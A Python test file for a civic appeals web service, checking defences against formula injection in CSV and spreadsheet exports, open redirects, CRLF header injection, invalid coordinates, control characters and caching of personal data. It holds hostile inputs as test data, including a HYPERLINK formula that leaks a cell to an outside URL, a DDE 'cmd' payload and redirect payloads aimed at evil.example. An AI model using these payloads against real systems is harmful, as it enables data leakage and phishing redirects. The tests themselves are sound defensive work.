"""HTTP hardening (issue 19, items 7, 8, 13, 14): exports that run no formulas, redirects that stay on
the site, refused coordinates and text, no caching of personal data, 4xx instead of 500."""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook

from companion.services import apikeys, appeal_list, appeals
from companion.web.safety import local_target

from .conftest import csrf_token

API = "/api/v1/broadcasts/demo/questions"
PLANTED = '=HYPERLINK("http://x?"&A1,"x")'
OTHERS = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "http://evil.example/page", "=1+1"]


def ask(app, text: str, **fields) -> str:
    response = app.test_client().post(API, json={"text": text, "language": "en", **fields})
    assert response.status_code == 201, response.json
    return response.json["tracking_code"]


def open311_key(app) -> str:
    with app.app_context():
        return apikeys.create_key("City 109 centre", actor=None)[1]


def strict_json(data: bytes):
    """JSON as the standard has it: Infinity and NaN are errors (Python's parser takes them)."""
    def refuse(name):
        raise ValueError(f"not JSON: {name}")
    return json.loads(data, parse_constant=refuse)


# --- item 7: formulas in exports -------------------------------------------------------------------

def test_exports_write_planted_formulas_and_links_as_plain_text(app, staff_client):
    codes = [ask(app, PLANTED, district="+Almaly"), *(ask(app, text) for text in OTHERS)]
    admin = staff_client("admin")

    xlsx = admin.get("/appeals/export.xlsx")
    assert xlsx.status_code == 200
    with zipfile.ZipFile(io.BytesIO(xlsx.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<hyperlink" not in sheet_xml  # no formula, no link in the file
        assert not any("hyperlink" in name.lower() or name.endswith(".rels") and "worksheets" in name
                       for name in archive.namelist())
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    texts = {}
    for row in sheet.iter_rows(min_row=2):
        texts[row[0].value] = row
    planted = texts[codes[0]]
    assert planted[10].value == PLANTED and planted[10].data_type == "s" and planted[10].hyperlink is None
    assert planted[9].value == "+Almaly" and planted[9].data_type == "s"
    for code, text in zip(codes[1:], OTHERS):
        cell = texts[code][10]
        assert (cell.value, cell.data_type, cell.hyperlink) == (text, "s", None)
    assert not sheet._hyperlinks

    exported = admin.get("/appeals/export.csv")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    by_code = {row[0]: row for row in rows[1:]}
    assert by_code[codes[0]][10] == "'" + PLANTED and by_code[codes[0]][9] == "'+Almaly"
    assert [by_code[c][10] for c in codes[1:]] == ["'" + OTHERS[0], "'" + OTHERS[1], "'" + OTHERS[2],
                                                    OTHERS[3], "'" + OTHERS[4]]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_csv_cells_that_start_like_formulas_get_an_apostrophe():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert appeal_list.csv_cell(start + "1") == "'" + start + "1"
    for safe in ("", "SRK-2026-000001", "2026-03-19", "Almaly", "'quoted", " =x", "a=b"):
        assert appeal_list.csv_cell(safe) == safe


def test_exports_are_one_at_a_time_and_a_long_wait_is_a_503(app, staff_client, monkeypatch):
    ask(app, "Heating is off")
    admin = staff_client("admin")
    monkeypatch.setattr(appeal_list, "EXPORT_WAIT_SECONDS", 0.05)
    with app.app_context():
        slot = appeal_list.export_semaphore()
    assert slot.acquire(timeout=1)  # another export is being built
    try:
        busy = admin.get("/appeals/export.xlsx")
    finally:
        slot.release()
    assert busy.status_code == 503 and busy.headers["Retry-After"] == "60"
    assert admin.get("/appeals/export.xlsx").status_code == 200


# --- item 8: open redirects ------------------------------------------------------------------------

HOSTILE = ["//evil.example", "/\\evil.example", "/\t/evil.example", "\t//evil.example", "https://evil.example",
           "http:evil.example", "https:/\\evil.example", "/\r\nLocation: https://evil.example", "/\r/evil.example",
           "/\n/evil.example", "javascript:alert(1)", " //evil.example", "\\\\evil.example", "/\\/evil.example",
           "///evil.example", "/\x00/evil.example", "/\x0b/evil.example", "/\u0085/evil.example"]


def lands_on_site(location: str) -> bool:
    """Where a browser would go: tabs and line breaks dropped, backslashes read as slashes (WHATWG URL)."""
    browser = re.sub(r"[\t\r\n]", "", location).replace("\\", "/").strip("\x00\x20")
    parts = urlsplit(browser)
    return parts.scheme in ("", "http") and parts.netloc in ("", "localhost") and not browser.startswith("//")


@pytest.mark.parametrize("target", HOSTILE)
def test_language_switch_and_login_redirect_only_within_the_site(app, target):
    client = app.test_client()
    response = client.get("/lang/en", query_string={"next": target})
    assert local_target(target) is None
    if "\x00" in target:  # no address with a NUL reaches a page
        assert response.status_code == 400
        return
    assert response.status_code == 302 and lands_on_site(response.headers["Location"]), response.headers["Location"]
    assert response.headers["Location"] in ("/", "http://localhost/")
    token = csrf_token(client, "/login")
    signed_in = client.post("/login", query_string={"next": target},
                            data={"username": "mod", "password": "correct-horse-battery", "csrf_token": token})
    assert signed_in.status_code == 302 and lands_on_site(signed_in.headers["Location"])
    assert urlsplit(signed_in.headers["Location"]).path == "/admin/broadcasts"


def test_local_targets_and_same_site_referrers_still_work(app):
    client = app.test_client()
    for raw in ("/%09/evil.example", "/%0d%0aSet-Cookie:%20x=1", "%2F%2Fevil.example", "/%5Cevil.example"):
        assert client.get("/lang/ru?next=" + raw).headers["Location"] == "/", raw
    assert client.get("/lang/ru?next=/b/demo%3Fx%3D1").headers["Location"] == "/b/demo?x=1"
    assert client.get("/lang/ru", headers={"Referer": "http://localhost/roadmap?x=1"}).headers["Location"] == "/roadmap?x=1"
    assert client.get("/lang/ru", headers={"Referer": "https://evil.example/roadmap"}).headers["Location"] == "/"
    assert client.get("/lang/ru", headers={"Referer": "http://localhost\\@evil.example/"}).headers["Location"] == "/"
    other = app.test_client()
    token = csrf_token(other, "/login")
    response = other.post("/login?next=/moderate/demo", data={"username": "mod", "password": "correct-horse-battery",
                                                              "csrf_token": token})
    assert response.headers["Location"] == "/moderate/demo"
    for path in ("/", "/b/demo", "/appeals?status=registered&q=a%2Fb", "/track/SRK-2026-000001"):
        assert local_target(path) == path


# --- item 14: 4xx instead of 500, coordinates, text, caching ---------------------------------------

def test_deeply_nested_json_is_a_bad_request(app):
    client = app.test_client()
    for body in ("[" * 50_000 + "]" * 50_000, '{"a":' * 20_000 + "1" + "}" * 20_000):
        api = client.post(API, data=body, content_type="application/json")
        assert api.status_code == 400 and api.json["error"]["code"] == "invalid"
        open311 = client.post("/open311/v2/requests.json", data=body, content_type="application/json")
        assert open311.status_code == 400 and open311.json[0]["code"] == 400


def test_ids_outside_63_bits_or_not_ascii_digits_are_4xx(app, staff_client):
    admin, client = staff_client("admin"), app.test_client()
    huge = "9" * 25
    assert client.get("/overlay/demo?key=%C3%A9").status_code == 404  # hmac.compare_digest refused the str
    with app.app_context():
        from companion.services import intake
        key = intake.get_broadcast("demo").overlay_key
    for scale in ("nan", "inf", "-inf", "1e999"):
        page = client.get("/overlay/demo", query_string={"key": key, "scale": scale}).get_data(as_text=True)
        assert "NaN" not in page and "Infinity" not in page, scale
    assert client.get(f"/open311/v2/services/{huge}.json").status_code == 404
    assert client.get("/open311/v2/services/%C2%B2.json").status_code == 404
    api_key = open311_key(app)  # listing needs the integrator's key
    assert client.get("/open311/v2/requests.json", query_string={"service_code": "²", "api_key": api_key}).status_code == 400
    assert client.get("/open311/v2/requests.json", query_string={"service_code": huge, "api_key": api_key}).status_code == 400
    for url in (f"/appeals/{huge}", f"/admin/broadcasts/{huge}", "/appeals/%D9%A3"):
        assert admin.get(url).status_code == 404, url
    for url in (f"/appeals?department_id={huge}", "/appeals?category_id=%C2%B2", f"/appeals?after=2026-01-01_{huge}",
                f"/appeals/export.csv?broadcast_id={huge}"):
        assert admin.get(url).status_code == 400, url
    assert admin.get(f"/admin/audit?before={huge}").status_code == 200  # an unusable marker is the first page
    code = ask(app, "Which version?")
    with app.app_context():
        appeal_id = appeals.by_code(code).id
    token = csrf_token(admin, f"/appeals/{appeal_id}")
    for version in ("²", huge, "x"):
        response = admin.post(f"/appeals/{appeal_id}/comment", data={"csrf_token": token, "version": version,
                                                                     "note": "A note"})
        assert response.status_code == 400, version
    for field, value in (("department_id", "²"), ("department_id", huge), ("officer_id", "²")):
        response = admin.post(f"/appeals/{appeal_id}/assign", data={"csrf_token": token, "version": "1", field: value,
                                                                    **({"department_id": "1"} if field != "department_id" else {})})
        assert response.status_code == 400, (field, value)
    response = admin.post("/appeals/assign", data={"csrf_token": token, "ids": ["²", huge], "department_id": "1"})
    assert response.status_code == 302


@pytest.mark.parametrize("field, value", [("lat", "inf"), ("lat", "-inf"), ("lat", "nan"), ("long", "Infinity"),
                                          ("long", "NaN"), ("lat", "1e400"), ("lat", "90.5"), ("lat", "-91"),
                                          ("long", "180.01"), ("long", "-181"), ("lat", "north")])
def test_open311_takes_only_finite_coordinates_in_range(app, field, value):
    key, client = open311_key(app), app.test_client()
    form = {"api_key": key, "service_code": "1", "description": "Broken light", field: value}
    for response in (client.post("/open311/v2/requests.json", data=form),
                     client.post("/open311/v2/requests.json", json={**form, field: float(value) if value not in
                                                                    ("north",) else value})):
        assert response.status_code == 400, response.json
        assert response.json[0]["description"].count(f"{field}:") == 1  # the field is named
    assert client.post("/open311/v2/requests.json", json={**form, field: True}).status_code == 400
    assert client.post("/open311/v2/requests.json", json={**form, field: 10**400}).status_code == 400
    edge = client.post("/open311/v2/requests.json", json={**form, "lat": -90, "long": 180})
    assert edge.status_code == 201
    listing = client.get("/open311/v2/requests.json", query_string={"api_key": key})
    assert listing.status_code == 200
    assert [(r["lat"], r["long"]) for r in strict_json(listing.data)] == [(-90.0, 180.0)]


@pytest.mark.parametrize("value", ["1_0", "٣", "0x10", " 1 2"])
def test_open311_coordinates_are_plain_ascii_decimals(app, value):
    """Python's float() takes "1_0" (10) and Arabic-Indic digits: found by a fresh-eyes review."""
    form = {"api_key": open311_key(app), "service_code": "1", "description": "Broken light", "lat": value, "long": "76.9"}
    assert app.test_client().post("/open311/v2/requests.json", data=form).status_code == 400


UNSTORABLE = ["\x00", "a\x00b", "\x1b[31mred", "\x85", "\u202eevil", "\x07"]


@pytest.mark.parametrize("bad", UNSTORABLE)
def test_text_no_column_can_hold_is_refused_by_field(app, staff_client, bad):
    key, client = open311_key(app), app.test_client()
    for field, body in (("description", {"description": "Broken " + bad + " light"}),
                        ("address_string", {"description": "ok", "address_string": "Abay " + bad + " 10"}),
                        ("first_name/last_name", {"description": "ok", "first_name": "Da" + bad + "na"}),
                        ("client_id", {"description": "ok", "client_id": "abcdefgh" + bad})):
        response = client.post("/open311/v2/requests.json", json={"api_key": key, **body})
        assert response.status_code == 400 and f"{field}:" in response.json[0]["description"], (field, response.json)
    api = client.post(API, json={"text": "Question " + bad + "?"})
    assert api.status_code == 400 and "text" in api.json["error"]["fields"]

    admin = staff_client("admin")
    code = ask(app, "An appeal to answer")
    with app.app_context():
        appeal_id = appeals.by_code(code).id
    token = csrf_token(admin, f"/appeals/{appeal_id}")
    response = admin.post(f"/appeals/{appeal_id}/comment", data={"csrf_token": token, "note": "note " + bad + "!"})
    assert response.status_code == 400
    names = {"name_kk": "Бөлім" + bad + "1", "name_ru": "Отдел", "name_en": "Department"}
    admin.post("/admin/departments", data={"csrf_token": csrf_token(admin, "/admin/organisation"), **names})
    assert "Бөлім" not in admin.get("/admin/organisation").get_data(as_text=True)
    page = admin.post("/admin/api-keys", data={"csrf_token": csrf_token(admin, "/admin/api-keys"), "name": "CRM" + bad + "x"})
    assert page.status_code == 200 and "cannot be stored" in page.get_data(as_text=True)
    with app.app_context():
        assert {k.name for k in apikeys.all_keys()} == {"City 109 centre"}


def test_pages_and_files_with_personal_data_are_not_cached(app, staff_client):
    code = ask(app, "A question with a phone", contact="+77011234567", consent=True)
    with app.app_context():
        appeal_id = appeals.by_code(code).id
    admin = staff_client("admin")
    for url in ("/appeals", f"/appeals/{appeal_id}", "/appeals/export.csv", "/appeals/export.xlsx", "/admin/users",
                "/admin/broadcasts", "/admin/audit", "/moderate/demo", "/prompter/demo", "/b/demo"):
        response = admin.get(url)
        assert response.status_code == 200 and "no-store" in response.headers.get("Cache-Control", ""), url
    client = app.test_client()
    for url in (f"/track/{code}", f"/track/{code}/receipt", f"/track/{code}/qr.svg", f"/api/v1/appeals/{code}",
                f"/open311/v2/requests/{code}.json", "/open311/v2/requests.json", "/login", "/track/SRK-0-0"):
        response = client.get(url)  # whatever the answer (a page, a refusal without the appeal's secret, a 404)
        assert response.status_code < 500 and "no-store" in response.headers.get("Cache-Control", ""), url
    assert "no-store" in client.post(API, json={"text": "Mine"}).headers.get("Cache-Control", "")
    assert "no-store" not in (client.get("/static/css/app.css").headers.get("Cache-Control") or "")
    assert client.get("/b/demo/qr.svg").headers["Cache-Control"] == "public, max-age=3600"
    assert "no-store" not in (client.get("/b/demo").headers.get("Cache-Control") or "")  # no personal data


# --- found by a fresh-eyes review after the merge --------------------------------------------------

def test_dates_beyond_what_the_records_hold_are_a_400_not_a_500(app, staff_client):
    admin, key = staff_client("admin"), open311_key(app)
    for query in ("received_to=9999-12-31", "received_from=0001-01-01"):
        for path in ("/appeals", "/appeals/export.csv", "/appeals/export.xlsx"):
            assert admin.get(f"{path}?{query}").status_code == 400, (path, query)
    for moment in ("9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+14:00"):
        response = app.test_client().get("/open311/v2/requests.json", query_string={"api_key": key, "start_date": moment})
        assert response.status_code == 400, moment
    assert admin.get("/appeals/export.csv").headers["Content-Type"] == "text/csv; charset=utf-8"


def test_wrong_passwords_from_one_ipv6_subscriber_count_as_one_address(app):
    from companion.services import limits
    with app.test_request_context():
        same = limits._login_key("mod", "2001:db8:1:2::1"), limits._login_key("mod", "2001:db8:1:2:ffff::9")
        other = limits._login_key("mod", "2001:db8:1:3::1")
    assert same[0] == same[1] and other != same[0]


def test_a_response_that_sets_the_viewer_cookie_is_kept_by_no_shared_cache(app):
    """Found by a fresh-eyes review: /b/demo set the session cookie (the viewer's token) with no Cache-Control."""
    response = app.test_client().get("/b/demo")
    assert "Set-Cookie" in response.headers and response.headers["Cache-Control"] == "private, no-cache"
